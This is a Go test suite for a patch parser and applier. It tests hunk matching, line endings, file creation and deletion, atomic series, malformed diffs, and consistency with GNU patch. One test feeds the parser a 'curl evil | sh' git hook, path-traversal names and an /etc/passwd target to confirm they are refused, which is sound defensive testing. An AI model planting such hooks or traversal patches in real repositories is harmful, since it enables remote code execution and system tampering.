package patch

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// mkPatch wraps a diff body into a patch file under dir/<component>/.
func mkPatch(t *testing.T, dir, component, name, body string) *Patch {
	t.Helper()
	hdr := "Description: test\nAuthor: t\nApplies-To: " + component + "\nEvidence: test\n\n"
	path := filepath.Join(dir, component, name)
	os.MkdirAll(filepath.Dir(path), 0o755)
	if err := os.WriteFile(path, []byte(hdr+body), 0o644); err != nil {
		t.Fatal(err)
	}
	p, err := Parse(path, []byte(hdr+body))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return p
}

func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range files {
		p := filepath.Join(root, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(content), 0o644)
	}
	return root
}

func read(t *testing.T, root, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(root, name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func numbered(n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "line %d\n", i)
	}
	return b.String()
}

const simple = `--- a/f.txt
+++ b/f.txt
@@ -4,7 +4,7 @@
 line 4
 line 5
 line 6
-line 7
+LINE SEVEN
 line 8
 line 9
 line 10
`

func TestApplyCleanOffsetFuzz(t *testing.T) {
	pdir := t.TempDir()
	p := mkPatch(t, pdir, "c", "0001-x.patch", simple)

	root := writeTree(t, map[string]string{"f.txt": numbered(20)})
	res, err := Apply(root, []*Patch{p}, DefaultOptions())
	if err != nil || !res.OK() || res.Hunks[0].Status != Clean || !res.Applied {
		t.Fatalf("clean: %+v %v", res, err)
	}
	if !strings.Contains(read(t, root, "f.txt"), "line 6\nLINE SEVEN\nline 8\n") {
		t.Error("content not patched")
	}

	// Three lines inserted at the top: offset +3.
	root = writeTree(t, map[string]string{"f.txt": "a\nb\nc\n" + numbered(20)})
	res, _ = Apply(root, []*Patch{p}, DefaultOptions())
	if h := res.Hunks[0]; h.Status != Offset || h.Offset != 3 || h.At != 7 {
		t.Errorf("offset: %+v", h)
	}

	// The first and last context lines changed: fuzz 1.
	content := strings.Replace(numbered(20), "line 4\n", "line four\n", 1)
	content = strings.Replace(content, "line 10\n", "line ten\n", 1)
	root = writeTree(t, map[string]string{"f.txt": content})
	res, _ = Apply(root, []*Patch{p}, DefaultOptions())
	if h := res.Hunks[0]; h.Status != Fuzz || h.Fuzz != 1 {
		t.Errorf("fuzz: %+v", h)
	}
	if got := read(t, root, "f.txt"); !strings.Contains(got, "line four\nline 5\nline 6\nLINE SEVEN\n") {
		t.Errorf("fuzzed context lines must keep the file's text:\n%s", got)
	}

	// The changed line itself differs: failed, with the line and a candidate named.
	root = writeTree(t, map[string]string{"f.txt": strings.Replace(numbered(20), "line 7\n", "line 7 changed\n", 1)})
	res, _ = Apply(root, []*Patch{p}, DefaultOptions())
	h := res.Hunks[0]
	if h.Status != Failed || !strings.Contains(h.Detail, `expected "line 7" at line 7, found "line 7 changed"`) || !strings.Contains(h.Detail, "closest candidate: line 4, where 6 of 7 lines match") {
		t.Errorf("failed: %+v", h)
	}
	if read(t, root, "f.txt") != strings.Replace(numbered(20), "line 7\n", "line 7 changed\n", 1) {
		t.Error("a failed patch changed the file")
	}
}

func TestCRLFAndNoNewline(t *testing.T) {
	pdir := t.TempDir()
	p := mkPatch(t, pdir, "c", "0001-x.patch", simple)
	crlf := strings.ReplaceAll(numbered(12), "\n", "\r\n")
	root := writeTree(t, map[string]string{"f.txt": crlf})
	res, err := Apply(root, []*Patch{p}, DefaultOptions())
	if err != nil || !res.OK() {
		t.Fatalf("%+v %v", res, err)
	}
	if got := read(t, root, "f.txt"); !strings.Contains(got, "line 6\r\nLINE SEVEN\r\nline 8\r\n") {
		t.Errorf("CRLF not kept: %q", got)
	}

	noeol := `--- a/g.txt
+++ b/g.txt
@@ -1,2 +1,2 @@
 a
-b
\ No newline at end of file
+c
`
	p2 := mkPatch(t, pdir, "c", "0002-y.patch", noeol)
	root = writeTree(t, map[string]string{"g.txt": "a\nb"})
	res, err = Apply(root, []*Patch{p2}, DefaultOptions())
	if err != nil || !res.OK() || read(t, root, "g.txt") != "a\nc\n" {
		t.Fatalf("no-newline: %v %q", err, read(t, root, "g.txt"))
	}
}

func TestCreateDeleteAndStrip(t *testing.T) {
	pdir := t.TempDir()
	body := `diff --git a/new/dir/n.txt b/new/dir/n.txt
new file mode 100644
--- /dev/null
+++ b/new/dir/n.txt
@@ -0,0 +1,2 @@
+hello
+world
--- a/old.txt
+++ /dev/null
@@ -1,2 +0,0 @@
-bye
-now
`
	p := mkPatch(t, pdir, "c", "0001-x.patch", body)
	root := writeTree(t, map[string]string{"old.txt": "bye\nnow\n"})
	res, err := Apply(root, []*Patch{p}, DefaultOptions())
	if err != nil || !res.OK() {
		t.Fatalf("%+v %v", res, err)
	}
	if read(t, root, "new/dir/n.txt") != "hello\nworld\n" {
		t.Error("not created")
	}
	if _, err := os.Stat(filepath.Join(root, "old.txt")); !os.IsNotExist(err) {
		t.Error("not deleted")
	}
	// -p0: the a/ directory is part of the path.
	root = writeTree(t, map[string]string{"a/f.txt": numbered(12)})
	p3 := mkPatch(t, pdir, "c", "0003-z.patch", simple)
	o := DefaultOptions()
	o.Strip = 0
	if res, err := Apply(root, []*Patch{p3}, o); err != nil || !res.OK() {
		t.Fatalf("-p0: %+v %v", res, err)
	}
	// Creating a file that exists fails.
	root = writeTree(t, map[string]string{"new/dir/n.txt": "x\n", "old.txt": "bye\nnow\n"})
	res, _ = Apply(root, []*Patch{p}, DefaultOptions())
	if res.OK() || res.Hunks[0].Detail != "the patch creates this file but it already exists" {
		t.Errorf("%+v", res.Hunks)
	}
}

// TestSeriesIsAtomic: the second patch fails, so the first one's file must
// stay untouched, and a new file from the first must not appear.
func TestSeriesIsAtomic(t *testing.T) {
	pdir := t.TempDir()
	p1 := mkPatch(t, pdir, "c", "0001-a.patch", simple+"--- /dev/null\n+++ b/created.txt\n@@ -0,0 +1 @@\n+x\n")
	p2 := mkPatch(t, pdir, "c", "0002-b.patch", strings.ReplaceAll(simple, "f.txt", "other.txt"))
	root := writeTree(t, map[string]string{"f.txt": numbered(20), "other.txt": "unrelated\n"})
	res, err := Apply(root, []*Patch{p1, p2}, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if res.OK() || res.Applied {
		t.Fatalf("series should fail: %+v", res)
	}
	if read(t, root, "f.txt") != numbered(20) {
		t.Error("first patch's file changed though the series failed")
	}
	if _, err := os.Stat(filepath.Join(root, "created.txt")); !os.IsNotExist(err) {
		t.Error("first patch's new file exists though the series failed")
	}
	// Dry run writes nothing even when everything applies.
	o := DefaultOptions()
	o.DryRun = true
	res, _ = Apply(root, []*Patch{p1}, o)
	if !res.OK() || res.Applied || read(t, root, "f.txt") != numbered(20) {
		t.Error("dry run wrote")
	}
}

func TestUnsafePaths(t *testing.T) {
	pdir := t.TempDir()
	for _, name := range []string{"../escape.txt", "x/../../escape.txt"} {
		body := strings.ReplaceAll(simple, "a/f.txt", "a/"+name)
		body = strings.ReplaceAll(body, "b/f.txt", "b/"+name)
		hdr := "Description: d\nAuthor: a\nApplies-To: c\nEvidence: e\n\n"
		_, err := Parse(filepath.Join(pdir, "c", "0001-x.patch"), []byte(hdr+body))
		if err == nil || !strings.Contains(err.Error(), "escapes the source tree") || !strings.Contains(err.Error(), "0001-x.patch:6:1") {
			t.Errorf("%s: %v", name, err)
		}
	}
	hdr := "Description: d\nAuthor: a\nApplies-To: c\nEvidence: e\n\n"
	// A new file under .git/ (a hook runs on the next checkout), in any case.
	for _, name := range []string{".git/hooks/post-checkout", "sub/.GIT/config"} {
		body := "--- /dev/null\n+++ b/" + name + "\n@@ -0,0 +1 @@\n+curl evil | sh\n"
		if _, err := Parse(filepath.Join(pdir, "c", "0001-x.patch"), []byte(hdr+body)); err == nil || !strings.Contains(err.Error(), "inside a .git directory") {
			t.Errorf("%s: %v, want refused", name, err)
		}
	}
	_, err := Parse(filepath.Join(pdir, "c", "0001-x.patch"), []byte(hdr+"--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n"))
	if err == nil || !strings.Contains(err.Error(), "is absolute") {
		t.Errorf("absolute: %v", err)
	}
	// A symlink inside the tree must not be written through.
	p := mkPatch(t, pdir, "c", "0002-y.patch", strings.ReplaceAll(simple, "f.txt", "link/f.txt"))
	root := writeTree(t, map[string]string{})
	outside := writeTree(t, map[string]string{"f.txt": numbered(20)})
	os.Symlink(outside, filepath.Join(root, "link"))
	_, err = Apply(root, []*Patch{p}, DefaultOptions())
	if !errors.Is(err, ErrUnsafe) || !strings.Contains(err.Error(), "symbolic link link") {
		t.Errorf("symlink: %v", err)
	}
	if read(t, outside, "f.txt") != numbered(20) {
		t.Error("wrote through a symlink")
	}
}

func TestMalformedDiffs(t *testing.T) {
	hdr := "Description: d\nAuthor: a\nApplies-To: c\nEvidence: e\n\n"
	cases := map[string]string{
		"--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n-b\n+c\n":                                            "8:1: hunk \"@@ -1,3 +1,3 @@\" ends early: 1 old and 1 new lines missing",
		"--- a/f\n+++ b/f\n@@ -1,2 +1,2 @@\n a\n b\n c\n d\n":                                        "",
		"--- a/f\n+++ b/f\n@@ -x,2 +1,2 @@\n a\n":                                                    `bad line number "x"`,
		"--- a/f\n+++ b/f\n@@ -1,2 +1,2\n a\n":                                                       "no closing @@",
		"--- a/f\n+++ b/f\n@@ -1,2 +1,2 @@\n a\n?what\n":                                             "is not context, removal or addition",
		"diff --git a/f b/f\nBinary files a/f and b/f differ\n":                                      "binary diffs are not supported",
		"diff --git a/f b/f\nGIT binary patch\nliteral 3\n":                                          "binary diffs are not supported",
		"diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+target\n": "symbolic links are refused",
		"--- a/f\n+++ b/f\n":                              "has no hunks",
		"@@ -1 +1 @@\n-a\n+b\n":                           "",
		"--- /dev/null\n+++ /dev/null\n@@ -0,0 +0,0 @@\n": "both sides are /dev/null",
		"--- a/f\n+++ b/f\n@@ -9223372036854775807,1 +9223372036854775807,1 @@\n-a\n+b\n": "line number 9223372036854775807 is too large",
		"--- a/f\n+++ b/f\n@@ -+1,1 ++1,1 @@\n-a\n+b\n":                                   `bad line number "+1"`,
		"--- a/f\n+++ b/f\n@@ -1,+1 +1,1 @@\n-a\n+b\n":                                    `bad line count "+1"`,
	}
	for body, want := range cases {
		_, err := Parse("patches/c/0001-x.patch", []byte(hdr+body))
		if err == nil {
			t.Errorf("accepted %q", body)
			continue
		}
		if want != "" && !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v; want %q", body, err, want)
		}
	}
}

// TestAgainstGNUPatch: random files and edits; our diffs applied by us and by
// GNU patch, and GNU diff's output applied by us, must all give the target.
func TestAgainstGNUPatch(t *testing.T) {
	for _, tool := range []string{"patch", "diff"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skip(tool + " not installed")
		}
	}
	rng := rand.New(rand.NewSource(7))
	words := []string{"alpha", "beta", "gamma", "delta", "", "{", "}", "return 0;", "x++;"}
	gen := func(n int) []string {
		out := make([]string, n)
		for i := range out {
			out[i] = words[rng.Intn(len(words))] + fmt.Sprint(rng.Intn(4))
		}
		return out
	}
	for iter := 0; iter < 150; iter++ {
		a := gen(rng.Intn(40))
		b := append([]string{}, a...)
		for e := rng.Intn(6); e >= 0; e-- {
			switch op := rng.Intn(3); {
			case op == 0 && len(b) > 0:
				i := rng.Intn(len(b))
				b = append(b[:i], b[i+1:]...)
			case op == 1:
				i := rng.Intn(len(b) + 1)
				b = append(b[:i], append(gen(1+rng.Intn(3)), b[i:]...)...)
			case len(b) > 0:
				b[rng.Intn(len(b))] = "changed" + fmt.Sprint(rng.Intn(100))
			}
		}
		join := func(l []string, eol bool) string {
			s := strings.Join(l, "\n")
			if eol && len(l) > 0 {
				s += "\n"
			}
			return s
		}
		aeol, beol := rng.Intn(5) != 0, rng.Intn(5) != 0
		as, bs := join(a, aeol), join(b, beol)
		if as == "" || bs == "" || as == bs {
			continue
		}
		ours := Unified("f.txt", "f.txt", []byte(as), []byte(bs), 3)
		pdir := t.TempDir()
		p := mkPatch(t, pdir, "c", "0001-x.patch", ours)

		root := writeTree(t, map[string]string{"f.txt": as})
		res, err := Apply(root, []*Patch{p}, DefaultOptions())
		if err != nil || !res.OK() || read(t, root, "f.txt") != bs {
			t.Fatalf("iter %d: our diff with our apply: %v %+v\n%s\ngot %q want %q", iter, err, res, ours, read(t, root, "f.txt"), bs)
		}
		root = writeTree(t, map[string]string{"f.txt": as})
		cmd := exec.Command("patch", "-s", "-p1", "--no-backup-if-mismatch")
		cmd.Dir, cmd.Stdin = root, strings.NewReader(ours)
		if out, err := cmd.CombinedOutput(); err != nil || read(t, root, "f.txt") != bs {
			t.Fatalf("iter %d: GNU patch rejects our diff: %v %s\n%s", iter, err, out, ours)
		}
		// GNU diff -u, applied by us.
		d := writeTree(t, map[string]string{"a/f.txt": as, "b/f.txt": bs})
		gnu, _ := exec.Command("diff", "-u", filepath.Join(d, "a/f.txt"), filepath.Join(d, "b/f.txt")).Output()
		gnu = bytes.Replace(gnu, []byte(filepath.Join(d, "a/f.txt")), []byte("a/f.txt"), 1)
		gnu = bytes.Replace(gnu, []byte(filepath.Join(d, "b/f.txt")), []byte("b/f.txt"), 1)
		p2 := mkPatch(t, pdir, "c", "0002-y.patch", string(gnu))
		root = writeTree(t, map[string]string{"f.txt": as})
		res, err = Apply(root, []*Patch{p2}, DefaultOptions())
		if err != nil || !res.OK() || read(t, root, "f.txt") != bs {
			t.Fatalf("iter %d: GNU diff with our apply: %v %+v\n%s", iter, err, res, gnu)
		}
	}
}

func FuzzParseDiff(f *testing.F) {
	f.Add([]byte(simple))
	f.Add([]byte("--- a/g\n+++ b/g\n@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+c\n"))
	f.Add([]byte("diff --git a/x b/x\nnew file mode 100644\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+y\n"))
	f.Add([]byte("--- a/f\n+++ b/f\n@@ -1 +1 @@\n-\r\n+x\r\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		fds, err := ParseDiff("fuzz.patch", data, 1)
		if err != nil {
			return
		}
		root := t.TempDir()
		os.WriteFile(filepath.Join(root, "f"), []byte("a\nb\nc\n"), 0o644)
		p := &Patch{Path: "fuzz.patch", Component: "c", Name: "f", files: fds}
		o := DefaultOptions()
		o.DryRun = true
		_, _ = Apply(root, []*Patch{p}, o)
	})
}
